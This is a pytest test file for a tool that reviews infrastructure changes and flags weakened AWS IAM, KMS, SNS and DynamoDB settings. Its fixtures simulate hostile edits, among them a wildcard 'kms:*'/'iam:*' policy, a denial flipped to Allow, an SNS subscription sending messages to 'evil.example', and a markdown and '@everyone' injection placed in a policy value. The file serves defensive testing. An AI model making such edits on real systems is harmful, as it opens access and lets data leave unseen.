"""Changes that would slip through, and refactorings that should: by two trees, without a plan."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from keyproof.model.finding import Severity
from keyproof.review.reports.markdown import review_markdown
from keyproof.review.review import Outcome, Review, review
from keyproof.terminal.failure import Failure
from smsbot.questions.review.sources import read_sides
from stacks.declared.declarations import declarations_of
from tests.keyproof.access.faults.faulty import (
    ACCOUNT,
    OUR_ARN,
    Config,
    add_resource,
    both,
    change_statement,
    policy_of,
    set_argument,
)
from tests.stacks.synthesized import PLAIN, synthesize_to

DECLARED = declarations_of(PLAIN)
STACK = "smsbot-dev"
MAIL = "somebody@example.com"
EVERYTHING = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [
            {"Sid": "X", "Effect": "Allow", "Action": ["kms:*", "iam:*"], "Resource": "*"}
        ],
    }
)


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("base")
    synthesize_to(folder, PLAIN)
    return folder


def reviewed(base: Path, head: Path, *changes: Callable[[Config], None]) -> Review:
    """The review of some changes of the plain environment, made to the tree of head."""
    config = json.loads((base / "stacks" / STACK / "cdk.tf.json").read_text())
    for change in changes:
        change(config)
    folder = head / "stacks" / STACK
    folder.mkdir(parents=True)
    (folder / "cdk.tf.json").write_text(json.dumps(config))
    sides = read_sides(STACK, plan=None, base=base, head=head, declarations=DECLARED)
    return review(sides)


def in_statement(kind: str, name: str, sid: str, change: Callable[[Any], None]) -> Any:
    def put_in(config: Config) -> None:
        with policy_of(config, kind, name) as document:
            (statement,) = (each for each in document["Statement"] if each["Sid"] == sid)
            change(statement)

    return put_in


def renamed_topic_policy(config: Config) -> None:
    policies = config["resource"]["aws_sns_topic_policy"]
    policies["inbound"] = policies.pop("inbound-sms")
    with policy_of(config, "aws_sns_topic_policy", "inbound") as document:
        document["Statement"].pop()


def moved_key_policy(config: Config) -> None:
    key = config["resource"]["aws_kms_key"]["sns"]
    document = json.loads(key.pop("policy"))
    (statement,) = (each for each in document["Statement"] if each["Sid"] == "RoleThroughSns")
    del statement["Condition"]["StringEquals"]
    add_resource(
        "aws_kms_key_policy", "sns", key_id="${aws_kms_key.sns.key_id}", policy=json.dumps(document)
    )(config)


def to_not_action(statement: Any) -> None:
    del statement["Action"]
    statement["NotAction"] = "iam:CreateUser"


def to_not_resource(statement: Any) -> None:
    statement["NotResource"] = statement.pop("Resource")


def moved_and_opened(config: Config) -> None:
    moved = json.loads(json.dumps(config).replace("aws_kms_key.sns", "aws_kms_key.topics"))
    keys = moved["resource"]["aws_kms_key"]
    keys["topics"] = keys.pop("sns")
    keys["topics"]["rotation_period_in_days"] = 2560
    moved["moved"] = [{"from": "aws_kms_key.sns", "to": "aws_kms_key.topics"}]
    config.clear()
    config.update(moved)


SLIPPING: dict[str, tuple[Callable[[Config], None], str]] = {
    "a new policy of the role": (
        add_resource(
            "aws_iam_role_policy", "new", role="${aws_iam_role.bot-role.name}", policy=EVERYTHING
        ),
        "weaker/policy-widened/aws_iam_role.bot-role",
    ),
    "a topic policy under another name, without its denial": (
        renamed_topic_policy,
        "weaker/policy-widened/aws_sns_topic.inbound-sms",
    ),
    "a key policy in a resource of its own, without a condition": (
        moved_key_policy,
        "weaker/policy-widened/aws_kms_key.sns",
    ),
    "a denial that allows": (
        change_statement("aws_kms_key", "sns", "UsersDoNotAdminister", Effect="Allow"),
        "weaker/policy-widened/aws_kms_key.sns",
    ),
    "everything but an action": (
        in_statement(
            "aws_iam_role_policy", "bot-role-publish-status", "PublishStatus", to_not_action
        ),
        "weaker/policy-widened/aws_iam_role.bot-role",
    ),
    "everything but a resource": (
        in_statement(
            "aws_iam_role_policy", "bot-role-store-and-count", "StoreMessages", to_not_resource
        ),
        "weaker/policy-widened/aws_iam_role.bot-role",
    ),
    "a subscriber outside": (
        add_resource(
            "aws_sns_topic_subscription",
            "evil",
            topic_arn="${aws_sns_topic.inbound-sms.arn}",
            protocol="https",
            endpoint="https://evil.example/x",
        ),
        "access/ways-out/aws_sns_topic_subscription.evil",
    ),
    "a new key for everybody": (
        add_resource("aws_kms_key", "new", enable_key_rotation=True),
        "access/nobody-else/aws_kms_key.new",
    ),
    "a subscription gone": (
        lambda config: config["resource"]["aws_sns_topic_subscription"].pop("inbound-sms"),
        "operational/call-gone/aws_sns_topic_subscription.inbound-sms",
    ),
    "a replica without a key": (
        set_argument(
            "aws_dynamodb_table", "conversations", "replica", [{"region_name": "eu-west-2"}]
        ),
        "weaker/coverage/aws_dynamodb_table.conversations",
    ),
    "messages kept as long as AWS likes": (
        lambda config: config["resource"]["aws_sqs_queue"]["dead-letter"].pop(
            "message_retention_seconds"
        ),
        "weaker/retention-cut/aws_sqs_queue.dead-letter",
    ),
    "items that expire by something else": (
        set_argument(
            "aws_dynamodb_table",
            "conversations",
            "ttl",
            {"attribute_name": "received_at", "enabled": True},
        ),
        "weaker/expiry-changed/aws_dynamodb_table.conversations",
    ),
    "a key that is moved, and rotated less": (
        moved_and_opened,
        "weaker/rotation-slower/aws_kms_key.topics",
    ),
    "a queue that keeps an order": (
        set_argument("aws_sqs_queue", "dead-letter", "fifo_queue", True),  # noqa: FBT003
        "irreversible/data-replaced/aws_sqs_queue.dead-letter",
    ),
    "a shorter deletion window, as a text": (
        set_argument("aws_kms_key", "sns", "deletion_window_in_days", "7"),
        "weaker/window-shorter/aws_kms_key.sns",
    ),
    "a key of several regions": (
        set_argument("aws_kms_key", "sns", "multi_region", True),  # noqa: FBT003
        "irreversible/key-replaced/aws_kms_key.sns",
    ),
}


@pytest.mark.parametrize("name", SLIPPING)
def test_nothing_slips_through(name: str, base: Path, tmp_path: Path) -> None:
    change, expected = SLIPPING[name]
    result = reviewed(base, tmp_path, change)
    assert result.outcome is not Outcome.NOT_WEAKER
    names = [each.name.partition("#")[0] for each in result.findings]
    assert expected in names


def reorder(config: Config) -> None:
    with policy_of(config, "aws_kms_key", "sns") as document:
        document["Statement"].reverse()
        for statement in document["Statement"]:
            del statement["Sid"]


def equal_operator(statement: Any) -> None:
    statement["Condition"]["ArnEquals"] = statement["Condition"].pop("ArnLike")


QUIET: dict[str, Callable[[Config], None]] = {
    "statements in another order, without their names": reorder,
    "an action in place of its family": in_statement(
        "aws_kms_key",
        "smsbot",
        "SnsForQueues",
        lambda statement: statement.update(Action=["kms:Decrypt", "kms:GenerateDataKey"]),
    ),
    "an operator that is the same": in_statement(
        "aws_kms_key", "smsbot", "SnsForQueues", equal_operator
    ),
    "streams in place of everything in a group": in_statement(
        "aws_iam_role_policy",
        "bot-role-write-logs",
        "WriteLogs",
        lambda statement: statement.update(
            Resource="${aws_cloudwatch_log_group.bot-function.arn}:*"
        ),
    ),
    "a condition more": in_statement(
        "aws_kms_key",
        "sns",
        "PublisherSmsVoice",
        lambda statement: statement["Condition"].update(Bool={"aws:SecureTransport": "true"}),
    ),
    "longer kept": set_argument("aws_cloudwatch_log_group", "sns-logs", "retention_in_days", 731),
}


@pytest.mark.parametrize("name", QUIET)
def test_a_refactoring_is_quiet(name: str, base: Path, tmp_path: Path) -> None:
    result = reviewed(base, tmp_path, QUIET[name])
    assert [each.name for each in result.findings if each.severity is not Severity.NOTE] == []


def test_a_pure_move_is_quiet(base: Path, tmp_path: Path) -> None:
    def move(config: Config) -> None:
        moved_and_opened(config)
        config["resource"]["aws_kms_key"]["topics"]["rotation_period_in_days"] = 180

    result = reviewed(base, tmp_path, move)
    destroyed = [each for each in result.findings if each.rule == "key-destroyed"]
    assert destroyed == []


def test_what_is_accepted_is_this_and_not_the_next(base: Path, tmp_path: Path) -> None:
    def reader(principal: str) -> Callable[[Config], None]:
        return in_statement(
            "aws_kms_key",
            "dynamodb",
            "RoleThroughDynamodb",
            lambda statement: statement["Condition"]["ArnEquals"].update(
                {"aws:PrincipalArn": [f"{OUR_ARN}:role/smsbot-dev-compute-role-bot", principal]}
            ),
        )

    one = reviewed(base, tmp_path / "one", reader(f"{OUR_ARN}:role/auditor"))
    two = reviewed(base, tmp_path / "two", reader(f"{OUR_ARN}:role/support"))
    names = {each.name for each in one.findings if each.severity != "operational"}
    assert names
    assert not names & {each.name for each in two.findings}


def test_an_account_that_is_named_is_no_other_account(base: Path, tmp_path: Path) -> None:
    def named(config: Config) -> None:
        config["provider"]["aws"][0]["allowed_account_ids"] = ["111122223333"]

    result = reviewed(base, tmp_path, named)
    assert (result.findings, result.changes) == ((), ())


def test_what_is_declared_in_the_same_change_is_shown(base: Path, tmp_path: Path) -> None:
    address = "aws_sns_topic_subscription.mail"

    def declared(config: Config) -> None:
        add_resource(
            "aws_sns_topic_subscription",
            "mail",
            topic_arn="${aws_sns_topic.inbound-sms.arn}",
            protocol="email",
            endpoint=MAIL,
        )(config)
        config["//"]["declarations"].setdefault("leaving", []).append(
            {"address": address, "target": MAIL, "reason": "To read along."}
        )

    (found,) = reviewed(base, tmp_path, declared).findings
    assert found.name.startswith(f"access/declaration/{address}#")
    assert found.problem == f"the change declares: content may leave by {address} to {MAIL}."


def test_a_base_without_declarations_is_not_compared(base: Path, tmp_path: Path) -> None:
    path = base / "stacks" / STACK / "cdk.tf.json"
    older = tmp_path / "older"
    (older / "stacks" / STACK).mkdir(parents=True)
    config = json.loads(path.read_text())
    del config["//"]["declarations"]
    (older / "stacks" / STACK / "cdk.tf.json").write_text(json.dumps(config))
    sides = read_sides(STACK, plan=None, base=older, head=base, declarations=DECLARED)
    (found,) = review(sides).findings
    assert (found.severity, found.rule) == (Severity.UNCOMPARED, "unknown-declarations")


def test_a_comment_cannot_be_written_by_a_policy(base: Path, tmp_path: Path) -> None:
    value = "x\n\n<!--\n@everyone `"
    result = reviewed(
        base,
        tmp_path,
        in_statement(
            "aws_kms_key",
            "sns",
            "RoleThroughSns",
            lambda statement: statement["Condition"]["StringEquals"].update(
                {"kms:ViaService": ["sns.eu-west-1.amazonaws.com", value]}
            ),
        ),
    )
    comment = review_markdown(result)
    assert "&lt;!-- &#64;everyone" in comment
    assert "@everyone" not in comment
    assert "<!--" not in comment


def test_a_stack_that_is_in_neither_tree_is_told(base: Path) -> None:
    with pytest.raises(Failure, match="has the stack smsbot-prod"):
        read_sides("smsbot-prod", plan=None, base=base, head=base, declarations=DECLARED)


def test_what_only_the_plan_shows_is_told_beside_the_trees(base: Path, tmp_path: Path) -> None:
    name = "smsbot-dev-messaging-topic-inbound-sms"
    arn = f"arn:aws:sns:eu-west-1:{ACCOUNT}:{name}"

    def topic(key: str | None) -> dict[str, Any]:
        values = {"name": name, "arn": arn, "kms_master_key_id": key}
        return {
            "address": "aws_sns_topic.inbound-sms",
            "type": "aws_sns_topic",
            "mode": "managed",
            "values": values,
        }

    key = "arn:aws:kms:eu-west-1:111122223333:key/1"
    plan = tmp_path / "plan.json"
    plan.write_text(
        json.dumps(
            {
                "format_version": "1.2",
                "planned_values": {"root_module": {"resources": [topic(None)]}},
                "prior_state": {"values": {"root_module": {"resources": [topic(key)]}}},
                "resource_changes": [
                    {
                        **topic(None),
                        "change": {
                            "actions": ["update"],
                            "before": topic(key)["values"],
                            "after": topic(None)["values"],
                        },
                    }
                ],
            }
        )
    )
    sides = read_sides(STACK, plan=plan, base=base, head=base, declarations=DECLARED)
    result = review(sides)
    assert "weaker/encryption-removed/aws_sns_topic.inbound-sms" in {
        each.name.partition("#")[0] for each in result.findings
    }
    with pytest.raises(Failure, match="the plan of another stack than smsbot-prod"):
        read_sides("smsbot-prod", plan=plan, base=None, head=None, declarations=DECLARED)


def test_administrators_gain_nothing_by_another_way(base: Path, tmp_path: Path) -> None:
    """They administer every key through any service, whether a policy names it or not."""
    added = in_statement(
        "aws_kms_key",
        "sns",
        "RoleThroughSns",
        lambda statement: statement["Condition"]["StringEquals"].update(
            {"kms:ViaService": "s3.eu-west-1.amazonaws.com"}
        ),
    )
    found = [each for each in reviewed(base, tmp_path, added).findings if each.rule == "gained"]
    assert found == []


def test_two_changes_are_two_findings(base: Path, tmp_path: Path) -> None:
    rotation = set_argument("aws_kms_key", "sns", "enable_key_rotation", False)  # noqa: FBT003
    change = both(rotation, QUIET["longer kept"])
    result = reviewed(base, tmp_path, change)
    assert [each.name.partition("#")[0] for each in result.findings] == [
        "weaker/rotation-off/aws_kms_key.sns"
    ]
